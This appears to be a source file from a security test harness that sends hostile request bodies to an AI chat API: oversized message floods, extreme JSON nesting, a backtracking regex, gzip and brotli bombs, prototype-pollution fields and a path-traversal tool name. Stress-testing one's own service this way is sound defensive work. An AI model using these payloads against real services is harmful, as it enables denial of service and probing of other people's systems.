import { brotliCompressSync, gzipSync } from 'node:zlib'
import type { Attack } from './attack.ts'
import { count } from './target.ts'
import { ask, chat, many } from './wire.ts'

const short = { role: 'user', content: 'hi' }
const repeat = (text: string, times: number): string => Array.from({ length: times }, () => text).join(',')
const deep = (levels: number): string => '['.repeat(levels) + ']'.repeat(levels)
/** A chat whose list of messages is a text, because making it of values would take long. */
const chatOf = (messages: string, more = ''): string => `{"messages":[${messages}]${more}}`
const user = '{"role":"user","content":"hi"}'
const megabytes = 1_000_000
const tool = (name: string, parameters: unknown = { type: 'object' }): object => ({ type: 'function', function: { name, parameters } })

/** Bodies of people who have the key. */
export const bodyAttacks: readonly Attack[] = [
  ['750 KB of short messages', (target) => ask(target, '/v1/chat/completions', chatOf(repeat(user, 24_000)))],
  ['9.9 MB of short messages', (target) => ask(target, '/v1/chat/completions', chatOf(repeat(user, 319_000)))],
  [
    '9.9 MB of messages of two roles',
    (target) => ask(target, '/v1/chat/completions', chatOf(`${repeat(`${user},{"role":"assistant","content":"a"}`, 152_000)},${user}`)),
  ],
  ['9.9 MB of short items of a response', (target) => ask(target, '/v1/responses', `{"input":[${repeat(user, 319_000)}]}`)],
  ['12 MB', (target) => ask(target, '/v1/chat/completions', chatOf(repeat(user, 390_000)))],
  ['9 MB in one word', (target) => chat(target, 'a'.repeat(9 * megabytes))],
  ['a body 4 million levels deep', (target) => ask(target, '/v1/chat/completions', deep(4 * megabytes))],
  ['a field 90 levels deep', (target) => chat(target, 'hi', { metadata: JSON.parse(deep(90)) })],
  ['a content 5,000 levels deep', (target) => ask(target, '/v1/chat/completions', chatOf(`{"role":"user","content":${deep(5_000)}}`))],
  [
    'arguments of a call a million levels deep',
    (target) =>
      ask(target, '/v1/chat/completions', {
        messages: [
          short,
          {
            role: 'assistant',
            content: null,
            tool_calls: [{ id: 'c', type: 'function', function: { name: 'a', arguments: deep(megabytes) } }],
          },
          { role: 'tool', tool_call_id: 'c', content: deep(megabytes) },
          short,
        ],
      }),
  ],
  ['a list of 4 million numbers', (target) => ask(target, '/v1/chat/completions', chatOf(repeat('0', 4 * megabytes)))],
  ['990,000 messages that are none', (target) => ask(target, '/v1/chat/completions', chatOf(repeat('0', 990_000)))],
  [
    '300,000 parts of one message',
    (target) => ask(target, '/v1/chat/completions', chatOf(`{"role":"user","content":[${repeat('{"type":"text","text":""}', 300_000)}]}`)),
  ],
  [
    '900,000 unknown fields',
    (target) => ask(target, '/v1/chat/completions', `{${Array.from({ length: 900_000 }, (_, index) => `"${index}":0`).join(',')}}`),
  ],
  ['1,000 tools', (target) => chat(target, 'hi', { tools: Array.from({ length: 1_000 }, (_, index) => tool(`tool_${index}`)) })],
  ['90,000 tools', (target) => chat(target, 'hi', { tools: Array.from({ length: 90_000 }, (_, index) => tool(`tool_${index}`)) })],
  [
    'a tool of 9 MB',
    (target) => chat(target, 'hi', { tools: [{ ...tool('a'), function: { name: 'a', description: 'a'.repeat(9 * megabytes) } }] }),
  ],
  [
    'names of tools that are paths',
    (target) => chat(target, 'hi', { tools: [tool('../../etc/passwd'), tool('__proto__'), tool('\u202e')] }),
  ],
  [
    'an image of 9 MB',
    (target) => chat(target, [{ type: 'image_url', image_url: { url: `data:image/png;base64,${'A'.repeat(9 * megabytes)}` } }]),
  ],
  [
    '60,000 images',
    (target) =>
      chat(
        target,
        Array.from({ length: 60_000 }, () => ({ type: 'image_url', image_url: { url: 'data:image/png;base64,AAAA' } })),
      ),
  ],
  ['a form that means itself', (target) => chat(target, '{}', form({ $ref: '#' }))],
  ['a form of 9 MB', (target) => chat(target, '{}', form({ enum: Array.from({ length: 900_000 }, (_, index) => `v${index}`) }))],
  [
    'a form of 60,000 properties',
    (target) =>
      chat(
        target,
        '{}',
        form({
          type: 'object',
          properties: Object.fromEntries(Array.from({ length: 60_000 }, (_, index) => [`p${index}`, { type: 'string' }])),
        }),
      ),
  ],
  ['a form with a pattern without end', (target) => chat(target, `"${'a'.repeat(60)}!"`, form({ type: 'string', pattern: '^(a+)+$' }))],
  [
    '20 forms with a pattern without end at once',
    async (target, { answers }) =>
      many(20, 20, async () => count(answers, await chat(target, `"${'a'.repeat(60)}!"`, form({ type: 'string', pattern: '^(a+)+$' })))),
  ],
  ['a form of 90 levels', (target) => chat(target, '{}', form(nestedForm(45)))],
  ['a gzip bomb', (target) => packed(target, 'gzip', gzipSync(Buffer.alloc(400 * megabytes), { level: 1 }))],
  ['a brotli bomb', (target) => packed(target, 'br', brotliCompressSync(Buffer.alloc(100 * megabytes, 'a')))],
  ['9.9 MB of short messages in gzip', (target) => packed(target, 'gzip', gzipSync(chatOf(repeat(user, 319_000))))],
  ['gzip that is none', (target) => packed(target, 'gzip', Buffer.alloc(megabytes, 'a'))],
  [
    'bytes that are not UTF-8',
    (target) =>
      ask(
        target,
        '/v1/chat/completions',
        Buffer.concat([Buffer.from('{"messages":[{"role":"user","content":"'), Buffer.alloc(megabytes, 0xff), Buffer.from('"}]}')]),
      ),
  ],
  [
    'lone surrogates and zero bytes',
    (target) => ask(target, '/v1/chat/completions', `{"messages":[{"role":"user","content":"${'\\ud800\\u0000'.repeat(50_000)}"}]}`),
  ],
  [
    'fields of the prototype',
    (target) =>
      ask(
        target,
        '/v1/chat/completions',
        '{"__proto__":{"a":1},"constructor":{"prototype":{"b":1}},"messages":[{"role":"user","content":"hi","__proto__":{"role":"system"}}]}',
      ),
  ],
  [
    'numbers beyond all bounds',
    (target) =>
      ask(target, '/v1/chat/completions', '{"messages":[{"role":"user","content":"hi"}],"max_tokens":1e999,"temperature":-1e308}'),
  ],
  [
    'large numbers of digits',
    (target) => ask(target, '/v1/chat/completions', `{"messages":[{"role":"user","content":"hi"}],"seed":${'9'.repeat(9 * megabytes)}}`),
  ],
]

const form = (schema: object): object => ({ response_format: { type: 'json_schema', json_schema: { name: 'a', schema } } })

function nestedForm(levels: number): object {
  let schema: object = { type: 'string' }
  for (let level = 0; level < levels; level++) schema = { anyOf: [schema] }
  return schema
}

const packed = (target: Parameters<typeof ask>[0], encoding: string, body: Uint8Array): Promise<string> =>
  ask(target, '/v1/chat/completions', body, { 'content-encoding': encoding })
